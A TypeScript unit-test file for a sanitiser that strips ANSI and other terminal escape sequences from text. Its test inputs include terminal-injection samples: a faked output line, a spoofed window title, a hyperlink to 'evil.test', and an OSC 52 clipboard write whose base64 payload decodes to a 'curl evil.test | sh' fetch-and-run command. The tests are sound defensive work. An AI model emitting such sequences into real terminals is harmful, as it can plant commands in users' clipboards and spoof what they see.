import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { terminalSafe } from "./terminal-text.js";

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

describe("terminalSafe", () => {
  const cases: Array<[name: string, input: string, output: string]> = [
    ["plain text", "build step 3/5: npm ci", "build step 3/5: npm ci"],
    ["tab and line feed kept", "a\tb\nc", "a\tb\nc"],
    ["printable Unicode kept", "✓ déployé → 部署 🚀 ▁▂▃", "✓ déployé → 部署 🚀 ▁▂▃"],
    ["SGR colours", `${ESC}[31mred${ESC}[0m and ${ESC}[1;38;5;208mbold${ESC}[m`, "red and bold"],
    ["clear screen and cursor home", `${ESC}[2J${ESC}[Hhello`, "hello"],
    ["cursor up and erase line (a faked line)", `ok${ESC}[1A${ESC}[2Kfake`, "okfake"],
    ["private-mode CSI (hide cursor)", `${ESC}[?25lx${ESC}[?25h`, "x"],
    ["CSI with an intermediate byte", `${ESC}[0 qx`, "x"],
    ["unterminated CSI at the end", `x${ESC}[12;`, "x"],
    ["8-bit CSI (U+009B)", "\u009b31mred", "red"],
    ["OSC window title, BEL-terminated", `${ESC}]0;pwned${BEL}text`, "text"],
    [
      "OSC 8 hyperlink, ST-terminated",
      `${ESC}]8;;https://evil.test${ST}click${ESC}]8;;${ST}`,
      "click",
    ],
    ["OSC 52 clipboard write", `${ESC}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==${BEL}after`, "after"],
    ["unterminated OSC swallows the rest", `before${ESC}]0;title never ends`, "before"],
    ["8-bit OSC (U+009D) ended by 8-bit ST (U+009C)", "\u009d0;t\u009cx", "x"],
    ["DCS (e.g. DECRQSS, answer-back)", `${ESC}P$q"p${ST}x`, "x"],
    ["APC, PM and SOS strings", `${ESC}_apc${ST}${ESC}^pm${ST}${ESC}Xsos${ST}x`, "x"],
    [
      "two-character ESC sequences (reset, save cursor, reverse index)",
      `${ESC}c${ESC}7${ESC}Mx`,
      "x",
    ],
    ["ESC with an intermediate (character set)", `${ESC}(0lqk${ESC}(Bx`, "lqkx"],
    ["a lone ESC at the end", `x${ESC}`, "x"],
    ["carriage return (overwrites the line)", "safe\rEVIL", "safeEVIL"],
    ["backspace, bell, vertical tab, form feed, NUL", "a\bb\x07c\x0bd\x0ce\x00f", "abcdef"],
    ["DEL", "a\x7fb", "ab"],
    ["other C1 controls (NEL, IND)", "a\u0085b\u0084c", "abc"],
  ];
  for (const [name, input, output] of cases) {
    it(name, () => assert.equal(terminalSafe(input), output));
  }

  it("leaves no control character in any mix", () => {
    let mixed = "";
    for (let code = 0; code < 0xa0; code++) mixed += `${String.fromCharCode(code)}x`;
    const safe = terminalSafe(mixed);
    assert.doesNotMatch(safe, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  });
});
